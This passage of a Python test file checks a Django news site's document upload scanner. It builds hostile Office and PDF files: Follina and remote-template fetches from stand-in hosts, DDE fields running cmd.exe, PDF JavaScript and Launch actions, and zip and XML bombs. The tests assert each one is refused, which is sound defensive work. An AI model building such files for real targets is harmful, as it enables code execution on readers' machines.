"""Attachments: staff attach documents to an article in its admin page; readers
download them from the list under the body, only when they may see the
article."""

import io
import struct
import unicodedata
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.loader import render_to_string
from django.utils import timezone
from PIL import Image
from pytest_django.asserts import assertInHTML

from articles import attachments
from articles.models import Article, Attachment
from files import checks, names, packages

from .conftest import SECOND_HOST, article_form, make_staff
from .serving import served_to_head

# --- Real documents, made here --------------------------------------------


def pdf_bytes(padding: int = 0, catalog=b"", page=b"", more=()) -> bytes:
    """A one-page PDF that any reader opens (cross-reference offsets and
    all); `padding` bytes of comment make it as large as a test needs;
    `catalog` and `page` go into those dictionaries, `more` objects (4 0 obj
    on) after them."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>" % page,
        *more,
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    if padding:
        out += b"%" + b"0" * padding + b"\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def zip_bytes(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, data in parts.items():
            # OpenDocument's "mimetype" is stored as is; the rest is packed.
            packing = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            package.writestr(name, data, compress_type=packing)
    return buffer.getvalue()


OOXML = "application/vnd.openxmlformats-officedocument"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>'
)
OVERRIDE = '<Override PartName="/{part}" ContentType="{type}"/>'
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships/{kind}" Target="{target}"/>'
    "</Relationships>"
)


def docx_parts(main_type=f"{OOXML}.wordprocessingml.document.main+xml"):
    overrides = OVERRIDE.format(part="word/document.xml", type=main_type)
    return {
        "[Content_Types].xml": CONTENT_TYPES.format(overrides=overrides),
        "_rels/.rels": RELS.format(kind="officeDocument", target="word/document.xml"),
        "word/document.xml": (
            '<w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Thông báo lịch '
            "tiếp công dân</w:t></w:r></w:p></w:body></w:document>"
        ),
    }


def docx_bytes() -> bytes:
    return zip_bytes(docx_parts())


def xlsx_bytes() -> bytes:
    overrides = OVERRIDE.format(
        part="xl/workbook.xml", type=f"{OOXML}.spreadsheetml.sheet.main+xml"
    ) + OVERRIDE.format(
        part="xl/worksheets/sheet1.xml", type=f"{OOXML}.spreadsheetml.worksheet+xml"
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relationships = (
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    )
    return zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(overrides=overrides),
            "_rels/.rels": RELS.format(kind="officeDocument", target="xl/workbook.xml"),
            "xl/workbook.xml": (
                f'<workbook xmlns="{main}" xmlns:r="{relationships}"><sheets>'
                '<sheet name="Danh sách" sheetId="1" r:id="rId1"/></sheets></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": RELS.format(
                kind="worksheet", target="worksheets/sheet1.xml"
            ),
            "xl/worksheets/sheet1.xml": (
                f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1" t="'
                'inlineStr"><is><t>Hộ gia đình</t></is></c></row></sheetData>'
                "</worksheet>"
            ),
        }
    )


def odf_parts(mimetype="application/vnd.oasis.opendocument.text"):
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    return {
        "mimetype": mimetype,
        "META-INF/manifest.xml": (
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:'
            'xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
            f'manifest:full-path="/" manifest:media-type="{mimetype}"/>'
            '<manifest:file-entry manifest:full-path="content.xml" '
            'manifest:media-type="text/xml"/></manifest:manifest>'
        ),
        "content.xml": (
            f'<office:document-content xmlns:office="{office}" xmlns:text="urn:'
            'oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
            "<office:body><office:text><text:p>Thông báo</text:p></office:text>"
            "</office:body></office:document-content>"
        ),
    }


def odt_bytes() -> bytes:
    return zip_bytes(odf_parts())


def ods_bytes() -> bytes:
    return zip_bytes(odf_parts("application/vnd.oasis.opendocument.spreadsheet"))


def macro_docx_bytes() -> bytes:
    """A macro-enabled Word document (.docm) renamed .docx."""
    parts = docx_parts("application/vnd.ms-word.document.macroEnabled.main+xml")
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    return zip_bytes(parts)


def macro_odt_bytes() -> bytes:
    parts = odf_parts()
    parts["Basic/Standard/Module1.xml"] = "<script:module/>"
    return zip_bytes(parts)


def zip_bomb_bytes() -> bytes:
    """A DOCX whose table of contents says one part unpacks to 4 GB."""
    data = bytearray(docx_bytes())
    central = data.index(b"PK\x01\x02")  # The first part's directory entry.
    data[central + 24 : central + 28] = (0xFFFFFFF0).to_bytes(4, "little")
    return bytes(data)


def many_parts_bytes() -> bytes:
    parts = docx_parts()
    parts.update({f"word/media/{n}.xml": "" for n in range(5001)})
    return zip_bytes(parts)


# --- Hostile documents, made here ------------------------------------------
# Each one was accepted before the content scan (files/packages.py,
# files/pdfs.py); each is what an intruder uploaded.

RELATIONSHIP = (
    '<Relationship Id="{id}" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'
)


def rels(*relationships) -> str:
    """A .rels part: each relationship (kind, target, external?)."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships">'
        + "".join(
            RELATIONSHIP.format(
                id=f"rId{n}",
                kind=kind,
                target=target,
                mode=' TargetMode="External"' if external else "",
            )
            for n, (kind, target, external) in enumerate(relationships, start=1)
        )
        + "</Relationships>"
    )


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)


def docx_with(parts=(), body="", extra_types=""):
    """The DOCX above, with more parts, runs in its body and content types."""
    document = docx_parts()
    document["[Content_Types].xml"] = document["[Content_Types].xml"].replace(
        "</Types>", extra_types + "</Types>"
    )
    if body:
        document["word/document.xml"] = (
            f'<w:document xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org'
            f'/officeDocument/2006/relationships"><w:body>{body}</w:body>'
            "</w:document>"
        )
    document.update(parts)
    return zip_bytes(document)


def remote_template_docx() -> bytes:
    """A .docx whose settings fetch a macro template (.dotm) on opening."""
    return docx_with(
        {
            "word/settings.xml": f'<w:settings xmlns:w="{W}"><w:attachedTemplate '
            'r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument'
            '/2006/relationships"/></w:settings>',
            "word/_rels/settings.xml.rels": rels(
                ("attachedTemplate", "https://mau.example/hop-dong.dotm", True)
            ),
        }
    )


def follina_docx() -> bytes:
    """CVE-2022-30190: an external OLE object whose target is an mhtml: page."""
    return docx_with(
        {
            "word/_rels/document.xml.rels": rels(
                (
                    "oleObject",
                    "mhtml:https://x.example/a.html!x-usc:https://x.example/a.html",
                    True,
                )
            )
        }
    )


def ole_package_docx() -> bytes:
    """An embedded OLE "Package": any program, one double-click away."""
    return docx_with(
        {
            "word/embeddings/oleObject1.bin": OLE_FILE,
            "word/_rels/document.xml.rels": rels(
                ("oleObject", "embeddings/oleObject1.bin", False)
            ),
        },
        extra_types='<Default Extension="bin" ContentType="application/'
        'vnd.openxmlformats-officedocument.oleObject"/>',
    )


def ole_as_picture_docx() -> bytes:
    """The same compound file named as a picture, no relationship, no type:
    found by its first bytes."""
    return docx_with({"word/media/image1.png": OLE_FILE})


def activex_docx() -> bytes:
    return docx_with(
        {
            "word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.'
            'microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-'
            '9E0D-00AA006002F3}"/>',
            "word/_rels/document.xml.rels": rels(
                ("control", "activeX/activeX1.xml", False)
            ),
        }
    )


def ddeauto_docx() -> bytes:
    """A DDEAUTO field, its code split over runs as the attacks write it."""
    run = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
    return docx_with(
        body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + run.format(" DDE")
        + run.format("AUTO c:\\\\windows\\\\system32\\\\cmd.exe ")
        + run.format('"/k calc.exe" ')
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def dde_simple_field_docx() -> bytes:
    return docx_with(
        body='<w:p><w:fldSimple w:instr=\'dde "cmd" "/c calc" \'><w:r><w:t>1'
        "</w:t></w:r></w:fldSimple></w:p>"
    )


def xlsx_with_formula(formula: str) -> bytes:
    data = xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
        b"</row>", b'<c r="B1"><f>' + formula.encode() + b"</f></c></row>"
    )
    return zip_bytes(parts)


def odt_with_listener(prefix="script") -> bytes:
    """An ODT that runs a Basic macro when opened (an event listener)."""
    parts = odf_parts()
    parts["content.xml"] = parts["content.xml"].replace(
        "<office:body>",
        f'<office:event-listeners><{prefix}:event-listener xmlns:{prefix}="urn:'
        'oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.'
        f'w3.org/1999/xlink" {prefix}:language="ooo:script" {prefix}:event-name='
        '"dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
        'language=Basic&amp;location=application"/></office:event-listeners>'
        "<office:body>",
    )
    return zip_bytes(parts)


def lying_zip_bytes(real=600 * 1024 * 1024, declared=1024) -> bytes:
    """A DOCX one of whose parts says it unpacks to a kilobyte and unpacks
    to 600 MB (of zeros, which pack into about 600 KB)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(1024 * 1024)
    packed = b"".join(packer.compress(zeros) for _ in range(real // len(zeros)))
    packed += packer.flush()
    data = bytearray(docx_bytes())
    directory = data.index(b"PK\x01\x02")
    name = b"word/media/image1.png"
    local = b"PK\x03\x04" + struct.pack(
        "<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(packed), declared, len(name), 0
    )
    offset = directory
    entry = b"PK\x01\x02" + struct.pack(
        "<HHHHHHIIIHHHHHII",
        20, 20, 0, 8, 0, 0, 0, len(packed), declared, len(name), 0, 0, 0, 0, 0,
        offset,
    )  # fmt: skip
    end = data.index(b"PK\x05\x06")
    central = bytes(data[directory:end]) + entry + name
    tail = bytearray(data[end:])
    count = int.from_bytes(tail[8:10], "little") + 1
    tail[8:10] = tail[10:12] = count.to_bytes(2, "little")
    tail[12:16] = len(central).to_bytes(4, "little")
    tail[16:20] = (offset + len(local) + len(name) + len(packed)).to_bytes(4, "little")
    return bytes(data[:directory]) + local + name + packed + central + bytes(tail)


def pdf_javascript() -> bytes:
    return pdf_bytes(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ")


def pdf_open_action_reference() -> bytes:
    """The action in an object of its own, its name hex-escaped."""
    return pdf_bytes(
        catalog=b"/OpenAction 4 0 R ",
        more=[b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>"],
    )


def pdf_launch() -> bytes:
    return pdf_bytes(
        page=b"/Annots [4 0 R] ",
        more=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch "
            b"/F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
        ],
    )


def pdf_additional_actions() -> bytes:
    return pdf_bytes(page=b"/AA << /O << /S /URI /URI (https://x.example/) >> >> ")


def pdf_embedded_file() -> bytes:
    return pdf_bytes(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> ",
        more=[b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"],
    )


def object_stream_pdf(objects: list[bytes], stream_filter=b"/FlateDecode") -> bytes:
    """A PDF as Acrobat, pdfTeX or qpdf write it: its catalog and page tree
    packed in a compressed object stream (PDF 1.5)."""
    offsets, body = [], b""
    for obj in objects:
        offsets.append(len(body))
        body += obj + b"\n"
    header = b" ".join(b"%d %d" % (n, off) for n, off in enumerate(offsets, 1))
    content = header + b"\n" + body
    packed = zlib.compress(content) if stream_filter == b"/FlateDecode" else content
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    n = len(objects) + 1
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>" % (
        n, len(objects), len(header) + 1, stream_filter, len(packed)
    )  # fmt: skip
    out += b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n%%%%EOF\n" % (n + 1)
    return bytes(out)


def pdf_hidden_in_object_stream() -> bytes:
    return object_stream_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /S /JavaScript /JS (this.exportDataObject({cName: 'a'})) >>",
        ]
    )


HOSTILE_FILES = [
    (
        "mau-tu-xa.docx",
        remote_template_docx,
        "Tệp “mau-tu-xa.docx” lấy nội dung từ nơi khác khi mở "
        "(https://mau.example/hop-dong.dotm)",
    ),
    (
        "follina.docx",
        follina_docx,
        "Tệp “follina.docx” lấy nội dung từ nơi khác khi mở (mhtml:https://",
    ),
    ("goi-ole.docx", ole_package_docx, "Tệp “goi-ole.docx” có đối tượng nhúng (OLE)"),
    ("anh.docx", ole_as_picture_docx, "Tệp “anh.docx” có đối tượng nhúng (OLE)"),
    ("activex.docx", activex_docx, "Tệp “activex.docx” có điều khiển ActiveX"),
    ("ddeauto.docx", ddeauto_docx, "Tệp “ddeauto.docx” có trường hoặc công thức DDE"),
    ("dde.docx", dde_simple_field_docx, "Tệp “dde.docx” có trường hoặc công thức DDE"),
    (
        "dde.xlsx",
        lambda: xlsx_with_formula("cmd|' /C calc'!A0"),
        "Tệp “dde.xlsx” có trường hoặc công thức DDE",
    ),
    (
        "su-kien.odt",
        odt_with_listener,
        "Tệp “su-kien.odt” có mã lệnh gắn với sự kiện",
    ),
    (
        "su-kien-2.odt",
        lambda: odt_with_listener(prefix="s"),
        "Tệp “su-kien-2.odt” có mã lệnh gắn với sự kiện",
    ),
    ("noi-doi.docx", lying_zip_bytes, "Tệp “noi-doi.docx” có cấu trúc nén bất thường"),
    ("js.pdf", pdf_javascript, "Tệp “js.pdf” là PDF có JavaScript"),
    ("js-an.pdf", pdf_open_action_reference, "Tệp “js-an.pdf” là PDF có"),
    ("launch.pdf", pdf_launch, "Tệp “launch.pdf” là PDF có lệnh mở chương trình"),
    ("aa.pdf", pdf_additional_actions, "Tệp “aa.pdf” là PDF có hành động tự động"),
    ("nhung.pdf", pdf_embedded_file, "Tệp “nhung.pdf” là PDF có tệp nhúng"),
    ("objstm.pdf", pdf_hidden_in_object_stream, "Tệp “objstm.pdf” là PDF có"),
]


@pytest.mark.parametrize(("filename", "make", "message"), HOSTILE_FILES)
def test_active_content_is_refused_by_what_the_file_holds(
    client, editor, article, media_root, filename, make, message
):
    client.force_login(editor)
    upload = SimpleUploadedFile(filename, make())
    response = client.post(change_url(article), attach_form(article, upload))
    assert response.status_code == 200
    assert message in response.text
    assert not Attachment.objects.exists()
    assert files_under(media_root) == []


def docx_with_chart_workbook(workbook: bytes) -> bytes:
    """A chart's data, as Word keeps it: a workbook packed in the document."""
    return docx_with(
        {
            "word/charts/chart1.xml": "<c:chartSpace xmlns:c="
            '"http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
            "word/charts/_rels/chart1.xml.rels": rels(
                ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", False)
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook,
        }
    )


def scanned_pdf_bytes() -> bytes:
    """A scanner's PDF: one page, a JPEG of noise (whose bytes hold any
    name by chance), as Pillow writes it."""
    page = Image.effect_noise((1240, 1754), 80).convert("L")
    buffer = io.BytesIO()
    page.save(buffer, "PDF", resolution=150)
    return buffer.getvalue()


ORDINARY_FILES = [
    (
        "lien-ket.docx",
        lambda: docx_with(
            {
                "word/_rels/document.xml.rels": rels(
                    ("hyperlink", "https://dichvucong.gov.vn/p/home.html", True),
                    ("hyperlink", "mailto:ubnd@phuong.example", True),
                )
            }
        ),
    ),
    (
        "tu-mau.docx",
        lambda: docx_with(
            {
                "word/_rels/settings.xml.rels": rels(
                    ("attachedTemplate", "file:///D:\\Mau\\Cong%20van.dotx", True)
                )
            }
        ),
    ),
    (
        "trang-so.docx",
        lambda: docx_with(
            body='<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1'
            "</w:t></w:r></w:fldSimple></w:p>"
        ),
    ),
    ("bieu-do.docx", lambda: docx_with_chart_workbook(xlsx_bytes())),
    ("chuoi.xlsx", lambda: xlsx_with_formula('IF(A1="x","co|khong","")')),
    (
        "muc-luc.pdf",
        lambda: object_stream_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] "
                b"/PageMode /UseOutlines >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            ]
        ),
    ),
    (
        "mo-trang-1.pdf",
        lambda: pdf_bytes(
            catalog=b"/OpenAction 4 0 R ",
            more=[b"<< /S /GoTo /D [3 0 R /XYZ null null 0] >>"],
        ),
    ),
    ("ban-quet.pdf", scanned_pdf_bytes),
    (
        "chu-js.pdf",
        lambda: pdf_bytes(page=b"/Note (Xem /JS va /AA trong muc 3) "),
    ),
]


@pytest.mark.parametrize(("filename", "make"), ORDINARY_FILES)
def test_ordinary_documents_pass_the_content_scan(filename, make):
    assert checks.document_problem(SimpleUploadedFile(filename, make())) == ""


def test_a_chart_workbook_with_macros_is_refused():
    workbook = macro_docx_bytes()  # Any package inside is checked the same.
    upload = SimpleUploadedFile("bieu-do.docx", docx_with_chart_workbook(workbook))
    assert "có chứa macro" in checks.document_problem(upload)


def test_a_pdf_whose_objects_cannot_be_read_is_refused():
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for unreadable in [
        object_stream_pdf(objects, stream_filter=b"/LZWDecode"),
        # Encrypted with a password: not a Flate stream to anyone without it.
        object_stream_pdf(objects).replace(
            zlib.compress(b"1 0\n" + objects[0] + b"\n"),
            bytes(range(7, 7 + len(zlib.compress(b"1 0\n" + objects[0] + b"\n")))),
        ),
    ]:
        problem = checks.document_problem(SimpleUploadedFile("an.pdf", unreadable))
        assert problem.startswith(
            "Tệp “an.pdf” là PDF có phần nén không đọc được để kiểm tra"
        )


def test_a_lying_zip_is_refused_as_soon_as_a_part_outgrows_its_size(monkeypatch):
    unpacked = []
    spend = packages.Limit.spend

    def counting(self, size):
        unpacked.append(size)
        spend(self, size)

    monkeypatch.setattr(packages.Limit, "spend", counting)
    problem = checks.document_problem(
        SimpleUploadedFile("noi-doi.docx", lying_zip_bytes())
    )
    assert "có cấu trúc nén bất thường" in problem
    assert sum(unpacked) < 2 * 1024 * 1024  # Of 600 MB.


def test_parts_that_unpack_past_the_limit_in_all_are_refused(monkeypatch):
    # Honest headers, each part below the limit, together above it.
    monkeypatch.setattr(packages, "MAX_UNPACKED_BYTES", 3 * 1024 * 1024)
    parts = docx_parts()
    parts.update({f"word/media/{n}.bin": bytes(1024 * 1024) for n in range(4)})
    upload = SimpleUploadedFile("lon.docx", zip_bytes(parts))
    assert "có cấu trúc nén bất thường" in checks.document_problem(upload)


def test_an_xml_bomb_is_refused():
    parts = docx_parts()
    parts["word/document.xml"] = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + parts["word/document.xml"]
    )
    upload = SimpleUploadedFile("xml.docx", zip_bytes(parts))
    assert "không phải tệp Word (DOCX) hợp lệ" in checks.document_problem(upload)


# --- Posting the article's admin page --------------------------------------


def change_url(article):
    return f"/admin/articles/article/{article.pk}/change/"


def attach_form(article, upload=None, name=""):
    """The article's change form as staff send it, with one new file."""
    data = article_form(
        article.category,
        title=article.title,
        slug=article.slug,
        status=article.status,
        **{
            "attachments-TOTAL_FORMS": "1",
            "attachments-INITIAL_FORMS": "0",
            "attachments-MIN_NUM_FORMS": "0",
            "attachments-MAX_NUM_FORMS": "1000",
            "attachments-0-id": "",
            "attachments-0-article": str(article.pk),
            "attachments-0-name": name,
        },
    )
    if upload is not None:
        data["attachments-0-file"] = upload
    return data


def files_under(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.fixture
def article(make_article):
    return make_article(title="Thông báo lịch tiếp công dân")


GOOD_FILES = [
    ("Quyết định số 12.pdf", pdf_bytes, "application/pdf", "PDF"),
    ("Mẫu đơn.docx", docx_bytes, checks.DOCX.content_type, "Word (DOCX)"),
    ("Danh sách hộ.xlsx", xlsx_bytes, checks.XLSX.content_type, "Excel (XLSX)"),
    ("Kế hoạch.odt", odt_bytes, checks.ODT.content_type, "OpenDocument (ODT)"),
    ("Bảng kê.ods", ods_bytes, checks.ODS.content_type, "OpenDocument (ODS)"),
]


@pytest.mark.parametrize(("filename", "make", "content_type", "label"), GOOD_FILES)
def test_staff_attach_each_kind_of_document_and_readers_download_it(
    client, editor, article, reader, media_root, filename, make, content_type, label
):
    data = make()
    client.force_login(editor)
    response = client.post(
        change_url(article), attach_form(article, SimpleUploadedFile(filename, data))
    )
    assert response.status_code == 302, response.text

    attachment = article.attachments.get()
    assert attachment.name == filename
    assert attachment.size == len(data)
    month = timezone.localdate().strftime("%Y/%m")
    stored = f"attachments/{article.ward.slug}/{month}/"
    stored += names.storage_name(filename)
    assert attachment.file.name == stored
    assert (media_root / stored).read_bytes() == data

    download = reader.get(attachments.attachment_url(attachment))
    assert download.status_code == 200
    assert download["Content-Type"] == content_type
    assert b"".join(download.streaming_content) == data
    assert checks.type_label(attachment.file.name) == label


BAD_FILES = [
    ("trong.pdf", b"", "Tệp “trong.pdf” rỗng (0 byte)."),
    (
        "thong-bao.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00" + bytes(2000),
        "Tệp “thong-bao.pdf” không phải tệp PDF hợp lệ",
    ),
    (
        "bieu-mau.docx",
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "Tệp “bieu-mau.docx” không phải tệp Word (DOCX) hợp lệ",
    ),
    (
        "bieu-mau-kem-zip.docx",
        b"<html><script>alert(1)</script></html>" + docx_bytes(),
        "Tệp “bieu-mau-kem-zip.docx” không phải tệp Word (DOCX) hợp lệ",
    ),
    (
        "logo.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "Tệp “logo.svg” không được nhận: chỉ đính kèm tệp PDF, Word (.docx), "
        "Excel (.xlsx) hoặc OpenDocument (.odt, .ods).",
    ),
    (
        "quyet-dinh.pdf",
        docx_bytes(),
        "Tên tệp “quyet-dinh.pdf” không khớp với nội dung (tệp Word (DOCX)): "
        "hãy đổi đuôi tệp thành .docx",
    ),
    (
        "cat-ngang.pdf",
        pdf_bytes(padding=3000)[:2000],
        "Tệp “cat-ngang.pdf” là PDF không trọn vẹn",
    ),
    ("macro.docx", macro_docx_bytes(), "Tệp “macro.docx” có chứa macro"),
    ("macro.odt", macro_odt_bytes(), "Tệp “macro.odt” có chứa macro"),
    ("bom.docx", zip_bomb_bytes(), "Tệp “bom.docx” có cấu trúc nén bất thường"),
    ("nhieu-phan.docx", many_parts_bytes(), "có cấu trúc nén bất thường"),
    (
        "trinh-chieu.odt",
        zip_bytes(odf_parts("application/vnd.oasis.opendocument.presentation")),
        "Tệp “trinh-chieu.odt” không phải tệp OpenDocument (ODT) hợp lệ",
    ),
    (
        "cong-van-cu.doc",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
        "hãy mở tệp và lưu lại thành .docx hoặc .xlsx",
    ),
]


@pytest.mark.parametrize(("filename", "data", "message"), BAD_FILES)
def test_bad_uploads_are_refused_with_a_message_and_leave_nothing(
    client, editor, article, media_root, filename, data, message
):
    client.force_login(editor)
    response = client.post(
        change_url(article), attach_form(article, SimpleUploadedFile(filename, data))
    )
    assert response.status_code == 200
    assert message.lower() in response.text.lower()
    assert not Attachment.objects.exists()
    assert files_under(media_root) == []


def test_a_huge_table_of_contents_is_refused_before_it_is_read(
    client, editor, article, media_root, monkeypatch
):
    # 30,000 empty parts: 2 MB of table, which zipfile would take seconds and
    # a hundred megabytes to read into objects.
    parts = docx_parts()
    parts.update({f"word/media/{n}.xml": "" for n in range(30_000)})
    upload = SimpleUploadedFile("nhieu-phan.docx", zip_bytes(parts))

    def never(*args, **kwargs):
        raise AssertionError("the table was read")

    monkeypatch.setattr(checks.zipfile, "ZipFile", never)
    client.force_login(editor)
    response = client.post(change_url(article), attach_form(article, upload))
    assert "Tệp “nhieu-phan.docx” có cấu trúc nén bất thường" in response.text
    assert files_under(media_root) == []


def test_an_upload_over_20_mb_is_refused_and_its_temporary_copy_removed(
    client, editor, article, media_root, settings, tmp_path
):
    # Past FILE_UPLOAD_MAX_MEMORY_SIZE, Django spools the upload to a
    # temporary file before any form sees it: it must go with the request.
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path / "upload-tmp"
    settings.FILE_UPLOAD_TEMP_DIR.mkdir()
    big = SimpleUploadedFile("ban-scan.pdf", pdf_bytes(padding=25 * 1024 * 1024))
    client.force_login(editor)
    response = client.post(change_url(article), attach_form(article, big))
    assert response.status_code == 200
    assert "Tệp “ban-scan.pdf” quá lớn (25 MB): tối đa 20 MB." in response.text
    assert not Attachment.objects.exists()
    assert files_under(media_root) == []
    assert files_under(settings.FILE_UPLOAD_TEMP_DIR) == []


def test_a_very_long_name_is_stored_short_and_shown_whole(
    client, editor, article, media_root
):
    long_name = "Quyết định về việc phê duyệt danh sách hộ nghèo " * 7 + ".pdf"
    assert len(long_name) > 300
    client.force_login(editor)
    response = client.post(
        change_url(article),
        attach_form(article, SimpleUploadedFile(long_name, pdf_bytes())),
    )
    assert response.status_code == 302, response.text
    attachment = article.attachments.get()
    assert len(attachment.name) == 200
    assert attachment.name.endswith(".pdf")
    assert attachment.name.startswith("Quyết định về việc phê duyệt")
    stored = Path(attachment.file.name).name
    assert stored.startswith("quyet-dinh-ve-viec-phe-duyet-danh-sach-ho-ngheo")
    assert stored.endswith(".pdf") and stored.isascii() and len(stored) <= 84
    assert files_under(media_root) == [media_root / attachment.file.name]


def test_a_decomposed_name_is_shown_composed(client, editor, article):
    name = unicodedata.normalize("NFD", "Thông báo tuyển dụng.pdf")
    client.force_login(editor)
    client.post(
        change_url(article), attach_form(article, SimpleUploadedFile(name, pdf_bytes()))
    )
    assert article.attachments.get().name == "Thông báo tuyển dụng.pdf"


def test_a_display_name_typed_by_staff_is_kept(client, editor, article):
    client.force_login(editor)
    upload = SimpleUploadedFile("scan0001.pdf", pdf_bytes())
    client.post(
        change_url(article),
        attach_form(article, upload, name="  Quyết định  số 12\r\n"),
    )
    attachment = article.attachments.get()
    assert attachment.name == "Quyết định số 12"
    assert attachments.download_name(attachment) == "Quyết định số 12.pdf"


def test_the_admin_offers_the_accepted_types_and_links_the_download(
    client, editor, article
):
    attachment = attach(article, "Quyết định số 12.pdf")
    client.force_login(editor)
    response = client.get(change_url(article))
    assert response.status_code == 200
    assert f'accept="{checks.ACCEPT}"' in response.text
    assert (
        "Tệp đính kèm (PDF, Word, Excel hoặc OpenDocument, tối đa 20 MB)"
        in response.text
    )
    # The stored file's own address is not served: the link is the download.
    assert f'href="{attachments.attachment_url(attachment)}"' in response.text
    assert "/media/attachments/" not in response.text
    assert f"PDF, {attachment.size} byte" in response.text


def test_the_model_refuses_a_bad_file_whatever_form_it_comes_through(article):
    fake = Attachment(
        article=article, file=SimpleUploadedFile("don.pdf", b"<html></html>")
    )
    with pytest.raises(ValidationError) as refused:
        fake.full_clean()
    assert refused.value.message_dict["file"] == [
        "Tệp “don.pdf” không phải tệp PDF hợp lệ: có thể tệp bị hỏng, có mật "
        "khẩu, hoặc là loại tệp khác chỉ được đổi tên."
    ]


# --- Downloading ------------------------------------------------------------


